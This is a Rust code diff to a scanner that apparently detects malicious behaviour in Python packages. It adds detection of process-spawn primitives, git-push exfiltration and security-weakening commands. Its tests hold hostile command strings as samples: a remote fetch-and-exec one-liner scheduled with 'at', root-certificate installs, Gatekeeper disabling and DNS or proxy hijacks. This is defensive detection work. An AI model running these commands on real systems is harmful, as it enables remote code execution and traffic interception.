@@ -50,6 +50,12 @@ pub fn is_spawn(qualname: &str) -> bool {
             | "win32process.CreateProcess"
             | "ctypes.windll.kernel32.CreateProcessW"
             | "ctypes.windll.kernel32.CreateProcessA"
+            | "_winapi.CreateProcess"
+            // The primitives under `subprocess` and `os.exec*`, called directly to keep those
+            // names out of the source.
+            | "_posixsubprocess.fork_exec"
+            | "os.fexecve"
+            | "multiprocessing.util.spawnv_passfds"
     ) || is_pip_main(q)
         || is_libc_command(q)
         || is_container_run(q)
@@ -106,8 +112,15 @@ enum Argv {
 
 fn argv_position(qualname: &str) -> Option<Argv> {
     match qualname {
-        "os.execv" | "os.execve" | "os.execvp" | "os.execvpe" | "os.posix_spawn"
-        | "os.posix_spawnp" => Some(Argv::List(1)),
+        "os.execv"
+        | "os.execve"
+        | "os.execvp"
+        | "os.execvpe"
+        | "os.posix_spawn"
+        | "os.posix_spawnp"
+        | "os.fexecve"
+        | "multiprocessing.util.spawnv_passfds" => Some(Argv::List(1)),
+        "_posixsubprocess.fork_exec" => Some(Argv::List(0)),
         "os.spawnv" | "os.spawnve" | "os.spawnvp" | "os.spawnvpe" => Some(Argv::List(2)),
         "os.execl" | "os.execle" | "os.execlp" | "os.execlpe" => Some(Argv::Spread(1)),
         "os.spawnl" | "os.spawnle" | "os.spawnlp" | "os.spawnlpe" => Some(Argv::Spread(2)),
@@ -118,7 +131,8 @@ fn argv_position(qualname: &str) -> Option<Argv> {
         // `CreateProcess(application, command_line, …)`: the application is usually `None`.
         "win32process.CreateProcess"
         | "ctypes.windll.kernel32.CreateProcessW"
-        | "ctypes.windll.kernel32.CreateProcessA" => Some(Argv::ProgramAndParameters(0)),
+        | "ctypes.windll.kernel32.CreateProcessA"
+        | "_winapi.CreateProcess" => Some(Argv::ProgramAndParameters(0)),
         _ if is_container_run(qualname) => Some(Argv::List(1)),
         _ => None,
     }
@@ -440,6 +454,11 @@ static LOCKS_OPENED: LazyLock<Regex> = crate::static_regex!(
     | \bsetenforce\s+0\b | \bpermitrootlogin\s+yes\b
     | \breg(\.exe)?\s+add\b.*\b(enablelua|consentpromptbehavioradmin)\b
     | \bchmod\s+(u\+s|[0-7]?[4-7][0-7]{3})\s
+    | \bspctl\s+--(master|global)-disable\b | \bsecurity\s+add-trusted-cert\b
+    | \bcertutil(\.exe)?\b.*\s-addstore\b.*\broot\b | \bimport-certificate\b.*\\root\b
+    | \bnetsh(\.exe)?\s+interface\s+ip(v4|v6)?\s+(set|add)\s+dns(servers?)?\b.*\bstatic\b
+    | \bnetworksetup\s+-set(dnsservers|webproxy|securewebproxy|autoproxyurl|socksfirewallproxy)\b
+    | \bnetsh(\.exe)?\s+winhttp\s+set\s+proxy\b
     "
 );
 
@@ -914,6 +933,10 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
         ),
         _ => classify_command(command.as_ref(), qualname, context, &shown),
     };
+    let mut tags = tags;
+    if is_vcs_query(known.unwrap_or(&shown)) {
+        tags.push("vcs-query");
+    }
     checker.report(&RULE, call.range(), message, severity, tags);
     let text = known.unwrap_or(&shown).clone();
     let sink = if network_tool(&text).is_some() {
@@ -926,6 +949,18 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     check_hidden_command(checker, call, command_arg, &text, context);
 }
 
+/// `git rev-parse HEAD`, `["git", "describe", "--tags"]`: a query of the project's own
+/// repository, as setup scripts make to compute their version. It reads; it runs nothing it
+/// was given, so it is no second stage's start.
+pub fn is_vcs_query(command: &str) -> bool {
+    static QUERY: LazyLock<Regex> = crate::static_regex!(
+        r#"(?i)^\s*[\[(]?\s*["']?(git|hg)(\.exe)?["']?\s*,?\s*["']?(rev-parse|describe|tag|log|merge-base|status|branch|show|rev-list|ls-files|ls-remote|diff|id|identify|summary)["']?(\s|,|[\])]|$)"#
+    );
+    QUERY.is_match(command_head(command))
+        && !command.contains([';', '&', '|', '`'])
+        && !command.contains("$(")
+}
+
 /// `curl`, `wget`, `nc` and PowerShell's web cmdlets as the program a command runs: what they
 /// are given goes over the network, like the arguments of `requests.post`.
 pub fn network_tool(command: &str) -> Option<&'static str> {
@@ -934,8 +969,17 @@ pub fn network_tool(command: &str) -> Option<&'static str> {
     );
     static GIT_CLONE: LazyLock<Regex> =
         crate::static_regex!(r"(?i)(^|[\s;&|(/\\])git(\.exe)?\s+clone\s");
+    // `git push https://…`: the repository's contents, whatever was copied into it, go to the
+    // server the command names. (`git push --tags` to the project's own remote is how the
+    // popular `setup.py upload` template releases.)
+    static GIT_PUSH: LazyLock<Regex> = crate::static_regex!(
+        r"(?i)(^|[\s;&|(/\\])git(\.exe)?\s+(-c\s+\S+\s+)*push\s+(-\S+\s+)*(\w+://|[\w.-]+@[\w.-]+:)"
+    );
     if GIT_CLONE.is_match(command) {
         return Some("git clone");
+    }
+    if GIT_PUSH.is_match(command) {
+        return Some("git push");
     }
     let captures = HEAD.captures(command)?;
     Some(
@@ -1166,15 +1210,45 @@ fn is_python_program(program: &str) -> bool {
 
 /// The quoted program of a shell command `python3 -c "…"`.
 fn inline_code_of_command(command: &str) -> Option<String> {
-    let (program, rest) = command.trim_start().split_once(' ')?;
-    if !is_python_program(program) {
-        return None;
+    if let Some((program, rest)) = command.trim_start().split_once(' ')
+        && is_python_program(program)
+    {
+        let rest = rest.trim_start().strip_prefix("-c")?.trim_start();
+        let quote = rest.chars().next().filter(|q| matches!(q, '"' | '\''))?;
+        let body = rest.get(1..)?;
+        let end = body.rfind(quote)?;
+        return body.get(..end).map(str::to_owned);
     }
-    let rest = rest.trim_start().strip_prefix("-c")?.trim_start();
-    let quote = rest.chars().next().filter(|q| matches!(q, '"' | '\''))?;
-    let body = rest.get(1..)?;
-    let end = body.rfind(quote)?;
-    body.get(..end).map(str::to_owned)
+    embedded_inline_code(command)
+}
+
+/// `echo "python3 -c '…'" | at now`, `nohup python -c "…" &`: an interpreter's inline code
+/// inside a longer command line, up to its closing quote, with the shell's `\"` escapes undone.
+fn embedded_inline_code(command: &str) -> Option<String> {
+    static EMBEDDED: LazyLock<Regex> = crate::static_regex!(
+        r#"(?i)(?:^|[\s"'(;&|])(?:[\w.~:-]*[/\\])?python[0-9.]*w?(?:\.exe)?\s+-c\s+(["'])"#
+    );
+    let found = EMBEDDED.captures(command_head(command))?;
+    let quote = found.get(1)?;
+    let body = command.get(quote.end()..)?;
+    let quote = quote.as_str().chars().next()?;
+    let mut code = String::new();
+    let mut chars = body.chars();
+    while let Some(c) = chars.next() {
+        match c {
+            '\\' => match chars.next() {
+                Some(escaped @ ('"' | '\'' | '\\')) => code.push(escaped),
+                Some(other) => {
+                    code.push('\\');
+                    code.push(other);
+                }
+                None => return None,
+            },
+            c if c == quote => return (!code.trim().is_empty()).then_some(code),
+            c => code.push(c),
+        }
+    }
+    None
 }
 
 /// `urlretrieve(url, '/tmp/.x.sh')` then `os.system('bash /tmp/.x.sh')`: the file a command
@@ -1484,10 +1558,20 @@ mod tests {
             "reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /t REG_DWORD /d 0 /f",
             "chmod u+s /tmp/.sh",
             "chmod 4755 /tmp/.sh",
+            "sudo spctl --master-disable",
+            "security add-trusted-cert -d -r trustRoot -k /Library/Keychains/System.keychain x.crt",
+            "certutil -addstore -f root x.crt",
+            "netsh interface ip set dns name=\"Wi-Fi\" static 203.0.113.53",
+            "networksetup -setwebproxy Wi-Fi 203.0.113.7 8080",
+            "netsh winhttp set proxy 203.0.113.7:8080",
         ] {
             assert!(opens_locks(command), "{command}");
         }
         for command in [
+            "spctl --assess -v app.app",
+            "certutil -hashfile x.exe SHA256",
+            "netsh interface ip show dns",
+            "networksetup -getwebproxy Wi-Fi",
             "iptables -L",
             "ufw status",
             "getenforce",
@@ -1830,6 +1914,14 @@ mod tests {
             inline_code_of_command("python3 -c \"import os; os.system('id')\"").as_deref(),
             Some("import os; os.system('id')")
         );
+        assert_eq!(
+            inline_code_of_command(
+                "echo \"python3 -c 'import urllib.request;exec(urllib.request.urlopen(\\\"http://x.invalid/j\\\").read())'\" | at now + 5 minutes"
+            )
+            .as_deref(),
+            Some("import urllib.request;exec(urllib.request.urlopen(\"http://x.invalid/j\").read())")
+        );
+        assert_eq!(inline_code_of_command("echo python3 -c is how"), None);
         assert_eq!(inline_code_of_command("pythonista -c 'x'"), None);
         assert_eq!(inline_code_of_command("python3 script.py"), None);
         assert!(is_python_program("/usr/bin/python3.11") && is_python_program("pythonw.exe"));
@@ -1847,6 +1939,29 @@ mod tests {
             .expect("the saved download is started");
         assert!(run.message.contains("response of requests.get"), "{run:?}");
         assert!(run.severity >= 0.6);
+        // A configuration the server answered, handed to the tool that reads it, is no start
+        // (supervisely's WireGuard set-up); a shell or a computed program handed it is.
+        let config = "import os, subprocess, requests
+def up():
+    conf = os.path.expanduser('~/net/wg0.conf')
+    with open(conf, 'w') as f:
+        f.write(requests.post('https://example.invalid/register').text)
+    subprocess.run(['wg-quick', 'up', conf])
+";
+        assert!(
+            crate::rules::testing::findings("p/pkg/m.py", config)
+                .iter()
+                .all(|f| !f.tags.contains(&"runs-saved-file"))
+        );
+        for runner in ["'bash'", "find_interpreter()"] {
+            let started = config.replace("'wg-quick', 'up'", runner);
+            assert!(
+                crate::rules::testing::findings("p/pkg/m.py", &started)
+                    .iter()
+                    .any(|f| f.tags.contains(&"runs-saved-file")),
+                "{started}"
+            );
+        }
         // A path that never folds is still the same file when the same variable names it.
         let computed = "import os, subprocess, tempfile, requests\ndef init(url):\n    r = requests.get(url)\n    file_path = os.path.join(tempfile.gettempdir(), os.path.basename(url))\n    with open(file_path, 'wb') as f:\n        f.write(r.content)\n    subprocess.run([file_path])\n";
         let found = crate::rules::testing::findings("p/pkg/m.py", computed);
@@ -1942,6 +2057,16 @@ mod tests {
         assert_eq!(network_tool("/usr/bin/wget -q x"), Some("wget"));
         assert_eq!(network_tool("powershell iwr http://x"), Some("PowerShell"));
         assert_eq!(network_tool("git describe"), None);
+        assert!(is_vcs_query("git merge-base HEAD master"));
+        assert!(is_vcs_query(r#"["git", "rev-parse", sha + "^"]"#));
+        assert!(!is_vcs_query("git config core.hooksPath .hooks"));
+        assert!(!is_vcs_query("git clone https://x.invalid/r && sh r/i.sh"));
+        assert_eq!(network_tool("git push --tags"), None);
+        assert_eq!(network_tool("git push origin main"), None);
+        assert_eq!(
+            network_tool("git -c user.name=a push -q https://x.invalid/r.git HEAD"),
+            Some("git push")
+        );
         assert_eq!(
             network_tool("git clone https://x.invalid/r.git /tmp/r"),
             Some("git clone")
